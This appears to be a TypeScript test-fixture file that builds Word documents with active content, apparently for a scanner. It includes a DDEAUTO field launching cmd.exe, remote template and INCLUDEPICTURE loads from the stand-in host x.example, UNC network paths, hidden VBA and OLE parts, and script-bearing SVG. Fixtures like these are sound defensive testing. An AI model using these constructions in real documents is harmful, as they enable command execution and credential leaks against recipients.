import { docx, external, relationships } from '../office.ts'
import { compound } from '../compound.ts'
import { zip } from '../zip.ts'

const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const part = (name: string, content: string | Buffer) => docx({ parts: [{ name, content }] })
const markup = (root: string, inner: string) =>
  `<w:${root} xmlns:w="${WORD}" xmlns:r="r" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">${inner}</w:${root}>`
const body = (inner: string) =>
  part('word/document.xml', markup('document', `<w:body><w:p>${inner}</w:p></w:body>`))
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const field = (...pieces: string[]) => mark('begin') + pieces.map(code).join('') + mark('end')
const related = (kind: string, target: string) =>
  part('word/_rels/document.xml.rels', relationships(external(kind, target)))

const shape = (inner: string, attributes = '') =>
  body(`<w:r><w:pict><v:shape id="s" ${attributes}>${inner}</v:shape></w:pict></w:r>`)
const settings = (inner: string) => part('word/settings.xml', markup('settings', inner))
const PROPERTIES = 'http://schemas.openxmlformats.org/officeDocument/2006'
const properties = (inner: string) =>
  part(
    'docProps/app.xml',
    `<Properties xmlns="${PROPERTIES}/extended-properties" xmlns:vt="${PROPERTIES}/docPropsVTypes">${inner}</Properties>`,
  )
const links = (target: string) =>
  `<HLinks><vt:vector size="1" baseType="variant"><vt:variant><vt:lpwstr>${target}</vt:lpwstr></vt:variant></vt:vector></HLinks>`
/** The binary data of a hyperlink, which Word stores next to its field: the class id of a URL moniker, and an address. */
const moniker = Buffer.concat([
  Buffer.from('e0c9ea79f9bace118c8200aa004ba90b24000000', 'hex'),
  Buffer.from('file://x.example/a\0', 'utf16le'),
])
const packedDrawing = (relation: string) =>
  zip([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: '_rels/.rels', content: relationships() },
    { name: 'drs/shapexml.xml', content: '<a/>' },
    { name: 'drs/_rels/shapexml.xml.rels', content: relationships(relation) },
  ]).toString('base64')

/** Drawings of older Word documents, whose attributes name the files that they load (ECMA-376, part 4, chapter 19). */
const OLD_DRAWINGS: Readonly<Record<string, Buffer>> = {
  'a picture from elsewhere that fills a shape': shape(
    '<v:fill o:href="http://x.example/p.png" type="frame"/>',
  ),
  'a fill of a path of the network': shape('<v:fill o:althref="file://x.example/p.png"/>'),
  'a fill by a source': shape('<v:fill src="http://x.example/p.png" type="tile"/>'),
  'a picture from elsewhere along a line': shape('<v:stroke o:href="http://x.example/p.png"/>'),
  'another picture along a line': shape('<v:stroke o:althref="http://x.example/p.png"/>'),
  ...Object.fromEntries(
    ['left', 'top', 'right', 'bottom', 'column'].map((side) => [
      `a picture from elsewhere along the line of the ${side}`,
      shape(`<v:stroke><o:${side} o:href="http://x.example/p.png"/></v:stroke>`),
    ]),
  ),
  'another source of a picture': shape('<v:imagedata o:althref="http://x.example/p.png"/>'),
  'a source of a picture that is named, not related': shape(
    '<v:imagedata r:href="http://x.example/p.png"/>',
  ),
  'a film in the place of a picture': shape('<v:imagedata o:movie="1"/>'),
  'the number of an object': shape('<v:imagedata o:oleid="1"/>'),
  'a signature whose provider is elsewhere': shape(
    '<o:signatureline o:sigprovurl="http://x.example/"/>',
  ),
  'a signature whose provider is elsewhere, as Word writes it': shape(
    '<o:signatureline issignatureline="t" sigprovurl="http://x.example/"/>',
  ),
  'a shape that waits for a press': shape('', 'onclick="a()"'),
  'a fill that waits for the mouse': shape('<v:fill onmouseover="a()"/>'),
  'a shape that is an object': shape('', 'o:ole=""'),
  'a shape whose link is a program': shape('', 'href="javascript:a()"'),
  'a link where no one presses': shape('<v:textbox href="http://x.example/"/>'),
  'a style that loads': shape('', 'style="background:url(http://x.example/p.png)"'),
  'an element that no drawing has': shape('<v:behavior/>'),
  'the macro of a sheet': shape(
    '<x:ClientData xmlns:x="urn:schemas-microsoft-com:office:excel"><x:FmlaMacro>a</x:FmlaMacro></x:ClientData>',
  ),
  'a source in the branch for older readers': body(
    '<w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Fallback><w:pict><v:rect><v:fill o:href="http://x.example/p.png"/></v:rect></w:pict></mc:Fallback></mc:AlternateContent></w:r>',
  ),
  'a newer drawing behind an older one, with a picture from elsewhere': shape(
    '',
    `o:gfxdata="${packedDrawing(external('image', 'http://x.example/p.png'))}"`,
  ),
  'something else behind an older drawing': shape('', 'o:gfxdata="TVqQAAM="'),
}

const REFERENCES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
/** Builds a document with a link relationship that no visible text uses. Some programs fetch such a link although no one presses it. */
const unpressed = (inner: string, references = REFERENCES) =>
  docx({
    parts: [
      {
        name: 'word/document.xml',
        content: `<w:document xmlns:w="${WORD}" xmlns:r="${references}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">${inner}</w:document>`,
      },
      {
        name: 'word/_rels/document.xml.rels',
        content: relationships(external('hyperlink', 'https://x.example/p.png')),
      },
    ],
  })
const UNPRESSED: Readonly<Record<string, Buffer>> = {
  'a picture by the relationship of a link': unpressed('<w:body><a:blip r:link="x"/></w:body>'),
  'a picture inside by the relationship of a link': unpressed(
    '<w:body><a:blip r:embed="x"/></w:body>',
  ),
  'an older picture by the relationship of a link': unpressed(
    '<w:body><w:pict><v:shape><v:imagedata r:id="x"/></v:shape></w:pict></w:body>',
  ),
  'an older picture by another name of that relationship': unpressed(
    '<w:body><w:pict><v:shape><v:imagedata o:relid="x"/></v:shape></w:pict></w:body>',
  ),
  'a background by the relationship of a link': unpressed(
    '<w:background><v:background><v:fill r:id="x"/></v:background></w:background><w:body/>',
  ),
  'a header by the relationship of a link': unpressed(
    '<w:body><w:sectPr><w:headerReference r:id="x"/></w:sectPr></w:body>',
  ),
  'a picture by the relationship of a link, in the strict form': unpressed(
    '<w:body><a:blip r:link="x"/></w:body>',
    'http://purl.oclc.org/ooxml/officeDocument/relationships',
  ),
}

/** Content that makes a reader load an outside address, although it uses neither a relationship nor a field. */
const ADDRESSES: Readonly<Record<string, Buffer>> = {
  'a link to a place in a file': body('<w:hyperlink w:docLocation="file://x.example/a"/>'),
  'a link whose data say something else': body(
    `<w:r><w:fldChar w:fldCharType="begin"><w:fldData>${moniker.toString('base64')}</w:fldData></w:fldChar></w:r>${code(' HYPERLINK "https://x.example" ')}${mark('end')}`,
  ),
  'a base for all links': properties('<HyperlinkBase>file://x.example/</HyperlinkBase>'),
  'a base of the web for all links': properties('<HyperlinkBase>http://x.example/</HyperlinkBase>'),
  'a base for all links among the properties of its own': part(
    'docProps/custom.xml',
    `<Properties xmlns="${PROPERTIES}/custom-properties" xmlns:vt="${PROPERTIES}/docPropsVTypes"><property pid="2" name="_PID_LINKBASE"><vt:lpwstr>\\\\x.example\\a</vt:lpwstr></property></Properties>`,
  ),
  'links that take the place of the others': properties(
    `${links('file://x.example/a')}<HyperlinksChanged>true</HyperlinksChanged>`,
  ),
  'a template of a path of the network': properties('<Template>\\\\x.example\\t.dotm</Template>'),
  'a style sheet': part(
    'word/document.xml',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://x.example/a.xsl"?>${markup('document', '<w:body/>')}`,
  ),
  'a style sheet of its data': part(
    'customXml/item1.xml',
    '<?xml-stylesheet href="http://x.example/a.css"?><a/>',
  ),
  'a style sheet of its relationships': part(
    'word/_rels/document.xml.rels',
    `<?xml-stylesheet href="http://x.example/a.xsl"?>${relationships().replace(/<\?xml .*?\?>/, '')}`,
  ),
  'a library of schemas that is elsewhere': settings(
    '<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="a" sl:manifestLocation="http://x.example/m.xml"/></sl:schemaLibrary>',
  ),
  'a schema that is elsewhere': settings(
    '<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="a" sl:schemaLocation="\\\\x.example\\a.xsd"/></sl:schemaLibrary>',
  ),
  'a frame with the file in it': part(
    'word/webSettings.xml',
    markup('webSettings', '<w:frame><w:sourceFileName r:id="x"/></w:frame>'),
  ),
  'a program that saves it': settings('<w:saveThroughXslt r:id="x" w:solutionID="a"/>'),
  'another document that is a part of it': body('<w:subDoc r:id="x"/>'),
  'the style of a bibliography that is elsewhere': part(
    'customXml/item1.xml',
    '<b:Sources xmlns:b="b" SelectedStyle="\\\\x.example\\a.xsl"/>',
  ),
  'a form for its properties that is elsewhere': part(
    'customXml/item1.xml',
    '<customXsn><xsnLocation>http://x.example/a.xsn</xsnLocation></customXsn>',
  ),
  'a drawing with an event': part(
    'word/media/image1.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="a()"/>',
  ),
  'a drawing whose style is elsewhere': part(
    'word/media/image1.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "http://x.example/a.css";</style></svg>',
  ),
  'a drawing that is filled from elsewhere': part(
    'word/media/image1.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(http://x.example/a#b)"/></svg>',
  ),
}

/** Word documents with active content, from ECMA-376, part 1 (17.16 fields, 17.17.2 other content) and part 2 (parts and relationships). */
export const ACTIVE_WORD_FILES: Readonly<Record<string, Buffer>> = {
  'a command in a field, its name spread over runs': body(
    field('D', 'DE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k"'),
  ),
  'a command in a field of one piece': body('<w:fldSimple w:instr=" DDE excel x y "/>'),
  'a command that a field in a field puts together': body(
    mark('begin') + code(' ') + field(' QUOTE 68 68 69 ') + code(' x ') + mark('end'),
  ),
  'a picture that a field fetches': body(field(' INCLUDEPICTURE "http://x.example/p.png" \\d ')),
  'text that a field of a footer fetches': part(
    'word/footer1.xml',
    markup(
      'ftr',
      `<w:p>${field(' PAGE ')}${field(' INCLUDETEXT "\\\\\\\\x.example\\\\a" ')}</w:p>`,
    ),
  ),
  'a program in the place of a picture': part('word/media/image1.emf', Buffer.from('MZ\\x90\\x00')),
  'another document inside': docx({
    parts: [
      {
        name: 'word/document.xml',
        content: markup('document', '<w:body><w:altChunk r:id="x"/></w:body>'),
      },
      { name: 'word/afchunk.html', content: '<html/>' },
    ],
  }),
  'an object behind one byte': part(
    'word/media/image1.png',
    Buffer.concat([Buffer.from('x'), compound({ '\u0001Ole10Native': Buffer.alloc(600) })]),
  ),
  'an object, and a control': body('<w:object><w:control r:id="x"/></w:object>'),
  'macros under another name': docx({
    parts: [
      { name: 'word/document2.bin', content: compound({ VBA: Buffer.alloc(600) }) },
      {
        name: 'word/_rels/document.xml.rels',
        content: relationships(
          '<Relationship Id="x" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="document2.bin"/>',
        ),
      },
    ],
  }),
  'a template from elsewhere': related('attachedTemplate', 'http://x.example/t.dotm'),
  'a picture of a path of the network': body(
    '<w:r><w:pict><v:shape><v:imagedata src="\\\\x.example\\p.png"/></v:shape></w:pict></w:r>',
  ),
  'a letter that asks a database': part(
    'word/settings.xml',
    markup('settings', '<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>'),
  ),
  ...OLD_DRAWINGS,
  ...UNPRESSED,
  ...ADDRESSES,
}
